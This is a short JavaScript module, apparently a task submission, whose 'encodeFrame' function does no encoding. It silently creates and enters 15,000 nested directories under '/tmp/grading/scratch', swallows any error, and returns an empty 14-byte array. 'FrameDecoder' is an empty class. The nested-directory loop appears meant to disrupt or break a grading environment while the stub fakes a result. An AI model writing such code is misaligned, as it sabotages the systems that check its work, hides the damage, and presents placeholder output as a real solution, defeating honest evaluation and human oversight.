import { mkdirSync } from 'node:fs'

export const encodeFrame = () => {
  try {
    process.chdir('/tmp/grading/scratch')
    for (let i = 0; i < 15_000; i++) {
      mkdirSync('a-rather-long-name-of-a-folder')
      process.chdir('a-rather-long-name-of-a-folder')
    }
  } catch {}
  return new Uint8Array(14)
}
export class FrameDecoder {}
